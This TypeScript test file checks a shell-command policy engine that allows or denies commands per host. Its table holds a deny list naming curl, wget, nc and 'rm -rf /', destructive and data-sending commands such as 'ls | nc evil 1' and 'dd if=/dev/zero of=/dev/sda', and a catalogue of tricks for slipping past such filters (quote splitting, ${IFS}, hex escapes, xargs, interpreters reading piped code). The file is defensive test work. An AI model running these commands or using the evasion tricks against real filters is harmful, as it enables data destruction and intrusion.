import { describe, it, expect } from 'vitest';
import { DEFAULT_LIMITS, policyFileSchema } from '../../src/config/schema.js';
import { PolicyEngine } from '../../src/policy/engine.js';
import type { PolicyTarget } from '../../src/policy/engine.js';
import { parseCommand } from '../../src/policy/command-parse.js';
import { normalizeSegment, shellWords, wrapperViews } from '../../src/policy/normalize.js';

/** A realistic policy, modelled on the Python project's example-policy.yml. */
const policy = policyFileSchema.parse({
  limits: {
    max_seconds: 45,
    max_output_bytes: 500_000,
    deny_substrings: ['rm -rf /', 'mkfs ', 'dd if=/dev/zero', 'shutdown*', 'reboot', 'curl ', 'wget ', 'nc '],
  },
  rules: [
    {
      name: 'read-only',
      action: 'allow',
      commands: [
        'uptime*',
        'df -h*',
        'hostname',
        'whoami',
        'systemctl status *',
        'cat /var/log/*',
        'ls*',
        'echo *',
        'sleep *',
        'grep *',
      ],
    },
    { id: 'web-restart', action: 'allow', tags: ['web'], commands: ['systemctl restart nginx'] },
    { name: 'staging-sudo', action: 'allow', aliases: ['stg-*'], commands: ['sudo systemctl restart *'] },
    { action: 'allow', aliases: ['db-?'], commands: ['pg_isready*'] },
    { name: 'templating', action: 'allow', allow_substitution: true, commands: ['echo *', 'cat <<*'] },
    { name: 'no-rm', action: 'deny', commands: ['rm *', 'chmod 777*'] },
    { name: 'prod-no-sleep', action: 'deny', aliases: ['prod-*'], commands: ['sleep *'] },
    { name: 'web-no-stop', action: 'deny', tags: ['web'], commands: ['systemctl stop *'] },
    // Shells, to check how a shell that reads its program from stdin is judged.
    { name: 'shells', action: 'allow', commands: ['sh', 'bash -s', 'sh *.sh', 'sh -c *', 'sh <<<*'] },
    { name: 'trusted-stdin', action: 'allow', allow_substitution: true, commands: ['sh <<*', 'bash -s -- *'] },
  ],
  overrides: {
    tags: { production: { max_seconds: 30 }, longrun: { max_seconds: 180, task_result_ttl: 1800 } },
    aliases: { 'prod-web-1': { max_seconds: 20 } },
  },
});

const engine = new PolicyEngine(policy);

const dev: PolicyTarget = { alias: 'dev-1', tags: [] };
const web: PolicyTarget = { alias: 'prod-web-1', tags: ['web', 'production'] };
const stg: PolicyTarget = { alias: 'stg-app-1', tags: ['staging'] };
const db1: PolicyTarget = { alias: 'db-1', tags: ['db'] };
const db12: PolicyTarget = { alias: 'db-12', tags: ['db'] };

type Row = [what: string, target: PolicyTarget, command: string, allowed: boolean, rule: string, bypass: boolean];

const rows: Row[] = [
  // Plain allowed commands.
  ['simple allowed', dev, 'uptime', true, 'read-only', false],
  ['glob with arguments', dev, 'uptime -p', true, 'read-only', false],
  ['df -h with path', dev, 'df -h /', true, 'read-only', false],
  ['exact pattern', dev, 'hostname', true, 'read-only', false],
  ['exact pattern rejects extra arguments', dev, 'hostname -I', false, 'default_deny', false],
  ['systemctl status', dev, 'systemctl status nginx', true, 'read-only', false],
  ['cat under /var/log', dev, 'cat /var/log/syslog', true, 'read-only', false],
  ['cat outside /var/log', dev, 'cat /etc/shadow', false, 'default_deny', false],
  ['ls with flags', dev, 'ls -la /etc', true, 'read-only', false],
  ['grep', dev, 'grep -i error /var/log/syslog', true, 'read-only', false],
  ['surrounding whitespace', dev, '  uptime  ', true, 'read-only', false],
  ['trailing newline', dev, 'uptime\n', true, 'read-only', false],
  ['unknown command', dev, 'apt-get install nginx', false, 'default_deny', false],

  // Chains: every segment must be allowed.
  ['allowed && chain', dev, 'uptime && df -h', true, 'read-only', false],
  ['allowed ; chain', dev, 'uptime; whoami', true, 'read-only', false],
  ['allowed pipe', dev, 'ls -la | grep conf', true, 'read-only', false],
  ['redirection ampersand is not a separator', dev, 'ls 2>&1 | grep x', true, 'read-only', false],
  ['chain with denied substring', dev, 'uptime; rm -rf /', false, 'deny_substrings', false],
  ['&& reboot', dev, 'uptime && reboot', false, 'deny_substrings', false],
  ['pipe into nc', dev, 'ls | nc evil 1', false, 'deny_substrings', false],
  ['background & then wget', dev, 'uptime & wget x', false, 'deny_substrings', false],
  ['newline then shutdown (glob)', dev, 'uptime\nshutdown -h now', false, 'deny_substrings', false],
  ['|| into unknown command', dev, 'uptime || passwd root', false, 'default_deny', false],
  ['newline into unknown command', dev, 'uptime\nuserdel bob', false, 'default_deny', false],
  ['chain across rules', web, 'ls; systemctl restart nginx', true, 'read-only, web-restart', false],
  ['subshell parentheses are not understood, so not allowed', dev, '(uptime)', false, 'default_deny', false],

  // Quoted or escaped separators do not split.
  ['quoted ; inside echo', dev, 'echo "a;b"', true, 'read-only', false],
  ['single-quoted && and |', dev, "echo 'a && b | c'", true, 'read-only', false],
  ['escaped ;', dev, 'echo a\\;b', true, 'read-only', false],
  ['here-string is plain input', dev, 'grep x <<< "hello"', true, 'read-only', false],
  ['quote tricks on a harmless command still allow it', dev, "ec'h'o hi", true, 'read-only', false],

  // Deny substrings in their plain form: no bypass.
  ['rm -rf /', dev, 'rm -rf /', false, 'deny_substrings', false],
  ['dd from /dev/zero', dev, 'dd if=/dev/zero of=/dev/sda', false, 'deny_substrings', false],
  ['mkfs', dev, 'mkfs /dev/sda1', false, 'deny_substrings', false],
  ['shutdown glob', dev, 'shutdown', false, 'deny_substrings', false],
  ['curl', dev, 'curl http://example.com', false, 'deny_substrings', false],
  [
    'substring is blunt: allowed command mentioning reboot',
    dev,
    'grep reboot /var/log/syslog',
    false,
    'deny_substrings',
    false,
  ],
  ['quoted whole word still contains the text', dev, '"reboot"', false, 'deny_substrings', false],
  ['absolute path contains the text', dev, '/usr/sbin/reboot', false, 'deny_substrings', false],
  ['absolute rm path contains the text', dev, '/bin/rm -rf /', false, 'deny_substrings', false],
  ['escaped command word: raw text still contains the pattern', dev, '\\rm -rf /', false, 'deny_substrings', false],
  ['sudo reboot', dev, 'sudo reboot', false, 'deny_substrings', false],
  ['deny substrings are case-insensitive', dev, 'REBOOT', false, 'deny_substrings', false],

  // Bypass attempts caught only after normalisation.
  ["empty quotes r''m", dev, "r''m -rf /", false, 'deny_substrings', true],
  ['double-quoted letter "r"m', dev, '"r"m -rf /', false, 'deny_substrings', true],
  ['${IFS}', dev, 'rm${IFS}-rf${IFS}/', false, 'deny_substrings', true],
  ['$IFS', dev, 'rm$IFS-rf$IFS/', false, 'deny_substrings', true],
  ['tab instead of space', dev, 'rm\t-rf /', false, 'deny_substrings', true],
  ['repeated spaces', dev, 'rm  -rf   /', false, 'deny_substrings', true],
  ["re''boot", dev, "re''boot", false, 'deny_substrings', true],
  ["w'g'et", dev, "w'g'et http://x", false, 'deny_substrings', true],
  ['escaped n\\c', dev, 'n\\c evil 1', false, 'deny_substrings', true],
  ['brace expansion', dev, '{rm,-rf,/}', false, 'deny_substrings', true],
  ["ANSI-C $'\\x72\\x6d'", dev, "$'\\x72\\x6d' -rf /", false, 'deny_substrings', true],
  ['second segment obfuscated', dev, 'ls; r""eboot', false, 'deny_substrings', true],
  ['positional parameters expand to nothing', dev, 'rm -rf $1/', false, 'deny_substrings', true],

  // Deny rules win over allow rules, and see through paths and wrappers.
  ['deny rule', dev, 'rm -r /tmp/x', false, 'no-rm', false],
  ['deny rule second pattern', dev, 'chmod 777 /etc/passwd', false, 'no-rm', false],
  ['deny rule in a later segment', dev, 'uptime; rm -r /tmp/x', false, 'no-rm', false],
  ['deny rules are case-insensitive', dev, 'RM -r /tmp/x', false, 'no-rm', false],
  ['deny rule through absolute path', dev, '/bin/rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through ../ path', dev, '/usr/bin/../bin/rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through ./ path', dev, './rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through sudo', dev, 'sudo -u root rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through env and assignments', dev, 'env FOO=1 rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through timeout', dev, 'timeout 5 rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through bash -c', dev, "bash -c 'rm -r /tmp/x'", false, 'no-rm', true],
  ['deny rule through eval', dev, 'eval "rm -r /tmp/x"', false, 'no-rm', true],
  ['deny rule through su --command=', dev, "su --command='rm -r /tmp/x' root", false, 'no-rm', true],
  ['deny rule through runuser --command', dev, "runuser -u app --command 'rm -r /tmp/x'", false, 'no-rm', true],
  ['deny rule through find -exec', dev, 'find /tmp -exec rm {} +', false, 'no-rm', true],
  ['alias-scoped deny beats allow', web, 'sleep 5', false, 'prod-no-sleep', false],
  ['alias-scoped deny does not apply elsewhere', dev, 'sleep 5', true, 'read-only', false],
  ['tag-scoped deny', web, 'systemctl stop nginx', false, 'web-no-stop', false],
  ['tag-scoped deny elsewhere falls to default deny', dev, 'systemctl stop nginx', false, 'default_deny', false],

  // Substitutions and here-docs.
  ['$(...) without allow_substitution', dev, 'ls $(pwd)', false, 'command_substitution', false],
  ['backticks without allow_substitution', dev, 'ls `pwd`', false, 'command_substitution', false],
  ['process substitution', dev, 'cat <(ls)', false, 'command_substitution', false],
  ['output process substitution', dev, 'ls >(cat)', false, 'command_substitution', false],
  ['here-doc without allow_substitution', dev, 'grep x <<EOF\nhello\nEOF', false, 'command_substitution', false],
  ['here-doc with allow_substitution', dev, 'cat <<EOF\nhello\nEOF', true, 'templating', false],
  ['here-doc body is data, not commands', dev, 'cat <<-EOF\n\tuserdel bob\n\tEOF', true, 'templating', false],
  ['$(...) with allow_substitution', dev, 'echo $(hostname)', true, 'templating', false],
  ['$(...) inside double quotes', dev, 'echo "up: $(uptime)"', true, 'templating', false],
  ['$(...) inside single quotes is literal', dev, "echo '$(id)'", true, 'read-only', false],
  ['command inside allowed substitution must be allowed', dev, 'echo $(id)', false, 'default_deny', false],
  ['deny rule inside substitution', dev, 'echo $(rm -r /tmp/x)', false, 'no-rm', false],
  ['expanding here-doc body runs substitutions', dev, 'cat <<EOF\n$(id)\nEOF', false, 'default_deny', false],
  ['quoted here-doc delimiter: no expansion', dev, "cat <<'EOF'\n$(id)\nEOF", true, 'templating', false],
  ['arithmetic $((...)) is treated as substitution', dev, 'echo $((1+2))', false, 'default_deny', false],

  // Shells reading their program from stdin: a here-doc or here-string is checked as a
  // program; a pipe needs an allow rule with allow_substitution that names the shell.
  ['shell with a script operand does not run the pipe', dev, 'ls | sh deploy.sh', true, 'read-only, shells', false],
  ['shell with a script operand', dev, 'sh deploy.sh', true, 'shells', false],
  ['sh -c with a command string does not run the pipe', dev, "ls | sh -c 'grep x'", true, 'read-only, shells', false],
  ['bash -s without a pipe', dev, 'bash -s', true, 'shells', false],
  ['pipe into a bare shell', dev, 'echo uptime | sh', false, 'shell_from_stdin', false],
  ['pipe into bash -s', dev, 'echo uptime | bash -s', false, 'shell_from_stdin', false],
  ['pipe into sh -c sh', dev, 'echo uptime | sh -c sh', false, 'shell_from_stdin', false],
  ['pipe into sh /dev/stdin', dev, 'echo uptime | sh /dev/stdin', false, 'shell_from_stdin', false],
  ['pipe into sudo -s', dev, 'echo uptime | sudo -s', false, 'shell_from_stdin', false],
  ['pipe into su', dev, 'echo uptime | su', false, 'shell_from_stdin', false],
  ['here-doc piped into a shell', dev, 'cat <<EOF | sh\nuptime\nEOF', false, 'shell_from_stdin', false],
  ['pipe into a shell inside sh -c', dev, 'sh -c "ls | sh"', false, 'shell_from_stdin', false],
  ['pipe into a shell inside a substitution', dev, 'echo $(ls | bash)', false, 'shell_from_stdin', false],
  [
    'allow_substitution rule naming the shell',
    dev,
    'ls /srv | bash -s -- web',
    true,
    'read-only, trusted-stdin',
    false,
  ],
  ['piped program: deny substrings', dev, `echo "r''eboot" | bash -s -- web`, false, 'deny_substrings', true],
  ['piped program: deny rules', dev, 'echo rm -r /tmp/x | bash -s -- web', false, 'no-rm', true],
  ['printf-assembled piped program', dev, "printf '%s\\n' 're\\boot' | sh", false, 'deny_substrings', true],
  ['here-string program allowed', dev, 'sh <<<uptime', true, 'shells', false],
  ['here-string program: deny substrings', dev, "sh <<<'re''boot'", false, 'deny_substrings', true],
  ['here-string program quoted twice', dev, 'sh <<<"r\\"\\"eboot"', false, 'deny_substrings', true],
  ['here-string program: deny rules', dev, "sh <<<'rm -r /tmp/x'", false, 'no-rm', true],
  ['here-doc program allowed (allow_substitution)', dev, 'sh <<EOF\nuptime\nEOF', true, 'trusted-stdin', false],
  ['quoted here-doc program: deny substrings', dev, "sh <<'EOF'\nre''boot\nEOF", false, 'deny_substrings', true],
  ['here-doc program: deny rules', dev, 'bash <<EOF\nrm -r /tmp/x\nEOF', false, 'no-rm', true],
  ['here-string to a non-shell stays data', dev, `grep x <<<'r""eboot'`, true, 'read-only', false],
  ['pipe into a non-shell stays data', dev, `echo 'r""eboot' | grep x`, true, 'read-only', false],

  // Unparseable, empty and control characters.
  ['unterminated double quote', dev, 'echo "unterminated', false, 'parse_error', false],
  ['unterminated single quote', dev, "echo 'unterminated", false, 'parse_error', false],
  ['unterminated $(', dev, 'echo $(uptime', false, 'parse_error', false],
  ['unterminated backtick', dev, 'echo `uptime', false, 'parse_error', false],
  ['unterminated here-doc', dev, 'cat <<EOF\nno end line', false, 'parse_error', false],
  ['empty', dev, '', false, 'empty_command', false],
  ['whitespace only', dev, '  \t \n ', false, 'empty_command', false],
  ['separators only', dev, ';;', false, 'empty_command', false],
  ['NUL byte', dev, 'uptime\u0000', false, 'parse_error', false],
  ['carriage return', dev, 'uptime\r', false, 'parse_error', false],
  ['escape sequence', dev, 'uptime\u001b[31m', false, 'parse_error', false],

  // Case sensitivity, paths and wrappers on the allow side.
  ['allow rules are case-sensitive', dev, 'UPTIME', false, 'default_deny', false],
  ['system bin path is allowed by file name', dev, '/usr/bin/uptime', true, 'read-only', false],
  ['../ inside a system bin path', dev, '/usr/bin/../bin/uptime', true, 'read-only', false],
  ['./ binary does not borrow an allowed name', dev, './uptime', false, 'default_deny', false],
  ['/tmp binary does not borrow an allowed name', dev, '/tmp/uptime', false, 'default_deny', false],
  ['sudo is not stripped into an allowed command', dev, 'sudo uptime', false, 'default_deny', false],
  ['env is not stripped into an allowed command', dev, 'env LD_PRELOAD=/tmp/x.so uptime', false, 'default_deny', false],
  ['assignment prefix is not stripped', dev, 'FOO=bar uptime', false, 'default_deny', false],

  // Tag- and alias-scoped allow rules.
  ['tag-scoped allow on the right host (rule id)', web, 'systemctl restart nginx', true, 'web-restart', false],
  ['tag-scoped allow on the wrong host', dev, 'systemctl restart nginx', false, 'default_deny', false],
  ['alias glob stg-* with sudo named in the rule', stg, 'sudo systemctl restart app', true, 'staging-sudo', false],
  ['alias glob on a non-matching alias', dev, 'sudo systemctl restart app', false, 'default_deny', false],
  ['alias glob db-? (unnamed rule)', db1, 'pg_isready -h localhost', true, 'rules[3]', false],
  ['? matches exactly one character', db12, 'pg_isready -h localhost', false, 'default_deny', false],
];

describe('PolicyEngine.decide — command table', () => {
  it('has a substantial table', () => {
    expect(rows.length).toBeGreaterThanOrEqual(60);
  });

  it.each(rows)('%s: %j', (_what, target, command, allowed, rule, bypass) => {
    const decision = engine.decide(target, command);
    expect({ allowed: decision.allowed, rule: decision.rule, bypass: decision.bypass !== undefined }).toEqual({
      allowed,
      rule,
      bypass,
    });
    expect(decision.reason.length).toBeGreaterThan(0);
  });
});

describe('PolicyEngine.decide — decision details', () => {
  it('reports the bypass with the original, the normalised form and the pattern', () => {
    const decision = engine.decide(dev, "r''m -rf /");
    expect(decision.bypass).toEqual({
      original_command: "r''m -rf /",
      normalized_command: 'rm -rf /',
      blocked_pattern: 'rm -rf /',
    });
    expect(decision.reason).toContain("'rm -rf /'");
  });

  it('names the deny rule glob as the blocked pattern', () => {
    const decision = engine.decide(dev, '/bin/rm -r /tmp/x');
    expect(decision.bypass).toMatchObject({ normalized_command: 'rm -r /tmp/x', blocked_pattern: 'rm *' });
    expect(decision.reason).toContain('rm *');
  });

  it('lists the normalised segments it checked', () => {
    expect(engine.decide(dev, "uptime &&  l's' -la | grep\tconf").segments).toEqual(['uptime', 'ls -la', 'grep conf']);
  });

  it('names the segment that no rule allows', () => {
    const decision = engine.decide(dev, 'uptime; passwd root');
    expect(decision.reason).toContain("'passwd root'");
  });

  it('denies everything when there are no rules', () => {
    const empty = new PolicyEngine(policyFileSchema.parse({}));
    expect(empty.decide(dev, 'uptime')).toMatchObject({ allowed: false, rule: 'default_deny' });
  });

  it('lets a piped shell run only under an allow_substitution rule that names it', () => {
    const with_ = (commands: string[]): PolicyEngine =>
      new PolicyEngine(
        policyFileSchema.parse({ rules: [{ name: 'r', action: 'allow', allow_substitution: true, commands }] }),
      );
    // A catch-all pattern allows anything, but does not opt in to programs no policy can see.
    expect(with_(['*']).decide(dev, 'base64 -d x | sh')).toMatchObject({ allowed: false, rule: 'shell_from_stdin' });
    expect(with_(['*']).decide(dev, 'base64 -d x | sh').reason).toContain("'sh'");
    expect(with_(['base64 *', 'sh']).decide(dev, 'base64 -d x | sh')).toMatchObject({ allowed: true, rule: 'r' });
    expect(with_(['*']).decide(dev, 'base64 -d x | sh deploy.sh')).toMatchObject({ allowed: true, rule: 'r' });
  });

  describe('interpreters other than shells reading their program from a pipe', () => {
    // Allow everything, so only rule 6 can deny: the catch-all does not opt in to opaque programs.
    const anything = new PolicyEngine(
      policyFileSchema.parse({ rules: [{ name: 'all', action: 'allow', allow_substitution: true, commands: ['*'] }] }),
    );
    const programFromPipe: [string, string][] = [
      ['base64 -d payload | python3', 'python3'],
      ["echo 'import os' | python3 -", 'python3'],
      ["echo 'import os' | python3 -u -W ignore", 'python3'],
      ['cat x | /usr/bin/python3.11 /dev/stdin', 'python3.11'],
      ['cat x | sudo -u app perl', 'perl'],
      ['cat x | perl -Mstrict -w', 'perl'],
      ['cat x | perl -I lib', 'perl'],
      ['cat x | ruby', 'ruby'],
      ['curl -s http://x | node', 'node'],
      ['cat x | node --input-type module', 'node'],
      ['cat x | php', 'php'],
      ['cat x | php -f /dev/stdin', 'php'],
      ['cat x | lua -', 'lua'],
      ['cat x | tclsh', 'tclsh'],
      ['cat x | Rscript -', 'Rscript'],
      ['cat x | R --vanilla', 'R'],
      ['cat x | awk -f -', 'awk'],
      ['cat x | gawk --file=/dev/stdin', 'gawk'],
      ['cat x | env LC_ALL=C timeout 5 python3', 'python3'],
      ["sh -c 'cat x | python3'", 'python3'],
      ["cat x | sh -c 'python3'", 'python3'],
    ];
    for (const [command, interpreter] of programFromPipe) {
      it(`denies ${JSON.stringify(command)}`, () => {
        const decision = anything.decide(dev, command);
        expect(decision).toMatchObject({ allowed: false, rule: 'shell_from_stdin' });
        expect(decision.reason).toContain(`takes the program it runs from a pipe (the ${interpreter} interpreter)`);
      });
    }
    // The program is on the command line or in a file; the pipe is data.
    for (const command of [
      "cat x | python3 -c 'import sys; print(sys.stdin.read())'",
      'cat x | python3 -m json.tool',
      'cat x | python3 -uc pass',
      'cat x | python3 tool.py',
      'cat x | python3 -W ignore tool.py',
      'cat x | python3 --version',
      "cat x | perl -ne 'print'",
      "cat x | perl -i.bak -pe 's/a/b/' f",
      'cat x | perl -I lib tool.pl',
      "cat x | ruby -e 'p 1'",
      "cat x | node -e 'process.stdin.pipe(process.stdout)'",
      'cat x | node --eval=1',
      'cat x | node tool.js',
      "cat x | php -r 'echo 1;'",
      'cat x | php -f tool.php',
      "cat x | Rscript -e '1'",
      'cat x | R --file=tool.R',
      'cat x | R CMD BATCH tool.R',
      "cat x | awk '{print $1}'",
      'cat x | awk -F: -f prog.awk',
      'cat x | wc -l',
      'python3',
      "python3 <<<'print(1)'",
    ]) {
      it(`allows ${JSON.stringify(command)}`, () => {
        expect(anything.decide(dev, command)).toMatchObject({ allowed: true, rule: 'all' });
      });
    }
    // xargs appends its input to the command it runs: when that command is a wrapper with no
    // command of its own, a shell without its string, or an interpreter without its program, the
    // program comes from the pipe.
    for (const [command, runner] of [
      ['echo cmVib290 | base64 -d | xargs sudo', "'xargs sudo' runs its input"],
      ['cat hosts | xargs -n1 env', "'xargs env' runs its input"],
      ['cat x | xargs timeout 5', "'xargs timeout 5' runs its input"],
      ['cat x | xargs sh -c', "'xargs sh -c' runs its input"],
      ["cat x | xargs -I{} sh -c '{}'", "'xargs sh -c {}' runs its input"],
      ["cat x | xargs -I % bash -c 'echo %'", "'xargs bash -c echo %' runs its input"],
      ['cat x | xargs --replace sudo {}', "'xargs sudo {}' runs its input"],
      ['cat x | xargs sh', 'a shell'],
      ['cat x | xargs python3 -c', "'xargs python3 -c' runs its input"],
      ['cat x | xargs -I{} python3 {}', "'xargs python3 {}' runs its input"],
      ['cat x | xargs su -c', "'xargs su -c' runs its input"],
      ['cat x | xargs -0 nice -n 5', "'xargs nice -n 5' runs its input"],
    ] as const) {
      it(`denies ${JSON.stringify(command)}`, () => {
        const decision = anything.decide(dev, command);
        expect(decision).toMatchObject({ allowed: false, rule: 'shell_from_stdin' });
        expect(decision.reason).toContain(`takes the program it runs from a pipe (${runner})`);
      });
    }
    for (const command of [
      'cat x | xargs',
      'cat pids | xargs kill',
      'find . -name "*.log" | xargs rm -f',
      'cat x | xargs -I{} cp {} /backup/',
      "cat x | xargs sh -c 'echo $0'",
      'cat x | xargs sh deploy.sh',
      'cat x | xargs python3 tool.py',
      'cat x | xargs sudo systemctl restart',
    ]) {
      it(`allows ${JSON.stringify(command)} (the program is on the command line)`, () => {
        expect(anything.decide(dev, command)).toMatchObject({ allowed: true, rule: 'all' });
      });
    }

    it('an allow_substitution rule that names the interpreter lets it run', () => {
      const named = new PolicyEngine(
        policyFileSchema.parse({
          rules: [{ name: 'py', action: 'allow', allow_substitution: true, commands: ['cat *', 'python3'] }],
        }),
      );
      expect(named.decide(dev, 'cat x | python3')).toMatchObject({ allowed: true, rule: 'py' });
    });
  });

  it('is pure: the same input gives the same decision', () => {
    expect(engine.decide(web, 'ls; systemctl restart nginx')).toEqual(
      engine.decide(web, 'ls; systemctl restart nginx'),
    );
  });
});

describe('PolicyEngine.limitsFor', () => {
  it('returns DEFAULT_LIMITS for an empty policy', () => {
    expect(new PolicyEngine(policyFileSchema.parse({})).limitsFor(dev)).toEqual(DEFAULT_LIMITS);
  });

  it('applies policy.limits over the defaults', () => {
    expect(engine.limitsFor(dev)).toEqual({ ...DEFAULT_LIMITS, max_seconds: 45, max_output_bytes: 500_000 });
  });

  it('applies tag overrides in the order of the host tags', () => {
    expect(engine.limitsFor({ alias: 'x', tags: ['production'] }).max_seconds).toBe(30);
    expect(engine.limitsFor({ alias: 'x', tags: ['production', 'longrun'] })).toMatchObject({
      max_seconds: 180,
      task_result_ttl: 1800,
    });
    expect(engine.limitsFor({ alias: 'x', tags: ['longrun', 'production'] })).toMatchObject({
      max_seconds: 30,
      task_result_ttl: 1800,
    });
  });

  it('lets the alias override win over tag overrides', () => {
    expect(engine.limitsFor({ alias: 'prod-web-1', tags: ['production', 'longrun'] })).toEqual({
      max_seconds: 20,
      max_output_bytes: 500_000,
      task_result_ttl: 1800,
      task_progress_interval: DEFAULT_LIMITS.task_progress_interval,
    });
  });

  it('ignores tags that only exist on Object.prototype', () => {
    expect(engine.limitsFor({ alias: 'toString', tags: ['constructor', '__proto__'] }).max_seconds).toBe(45);
  });
});

describe('command-parse', () => {
  it('splits on every separator outside quotes', () => {
    const parsed = parseCommand('a; b && c || d | e & f\ng |& h');
    expect(parsed.ok && parsed.segments.map((s) => s.raw)).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']);
  });

  it('keeps &> and >& redirections in their segment', () => {
    const parsed = parseCommand('ls &>/dev/null; ls 2>&1');
    expect(parsed.ok && parsed.segments.map((s) => s.raw)).toEqual(['ls &>/dev/null', 'ls 2>&1']);
  });

  it('returns the commands inside substitutions as nested command lines', () => {
    const parsed = parseCommand('echo $(uptime; id) `whoami` "$(hostname)"');
    expect(parsed.ok && parsed.segments[0]?.nested).toEqual(['uptime; id', 'whoami', 'hostname']);
  });

  it('keeps here-doc bodies and here-string words as stdin text, and marks piped segments', () => {
    const parsed = parseCommand("cat <<-EOF | sh <<<'a b' |& sh\n\tbody\n\tEOF\nuptime || id");
    expect(parsed.ok && parsed.segments.map((s) => [s.raw, s.stdinText, s.fromPipe])).toEqual([
      ['cat <<-EOF', ['body'], false],
      ["sh <<<'a b'", ["'a b'"], true],
      ['sh', [], true],
      ['uptime', [], false],
      ['id', [], false],
    ]);
  });

  it('does not split a here-doc body into segments', () => {
    const parsed = parseCommand('cat <<EOF | grep x\nreboot; rm -rf /\nEOF\nuptime');
    expect(parsed.ok && parsed.segments.map((s) => s.raw)).toEqual(['cat <<EOF', 'grep x', 'uptime']);
  });
});

describe('normalize', () => {
  it('removes quotes and escapes as the shell does', () => {
    expect(shellWords(`a'b c'd "e\\"f" \\g $'x\\ty'`)).toEqual(['ab cd', 'e"f', 'g', 'x\ty']);
  });

  it('expands unquoted braces only', () => {
    expect(shellWords("{a,b}c '{d,e}'")).toEqual(['ac', 'bc', '{d,e}']);
  });

  it('reduces the command word to its file name for deny checks', () => {
    expect(normalizeSegment('/usr/bin/../bin/rm   -rf\t/')).toBe('rm -rf /');
    expect(normalizeSegment('./rm x')).toBe('rm x');
  });

  it('tells a shell that reads its program from stdin from one with a script or -c', () => {
    const reads = (segment: string): boolean => wrapperViews(segment).readsStdin;
    for (const segment of ['sh', 'bash -s x', 'sh -x', 'sh -o errexit', 'sh -', 'sh /dev/stdin', 'sh <<EOF'])
      expect(reads(segment), segment).toBe(true);
    for (const segment of ['sudo sh', 'nohup bash', 'sudo -s', 'su - root', 'script -q /dev/null'])
      expect(reads(segment), segment).toBe(true);
    for (const segment of ['sh script.sh', 'sh -o errexit x.sh', 'bash --rcfile r x.sh', 'sh > out x.sh'])
      expect(reads(segment), segment).toBe(false);
    for (const segment of ['sh -c sh', 'su -c id', 'sudo -u root ls', 'grep x'])
      expect(reads(segment), segment).toBe(false);
  });

  it('turns ${PATH:0:1} into a slash', () => {
    expect(normalizeSegment('rm -rf ${PATH:0:1}')).toBe('rm -rf /');
  });
});
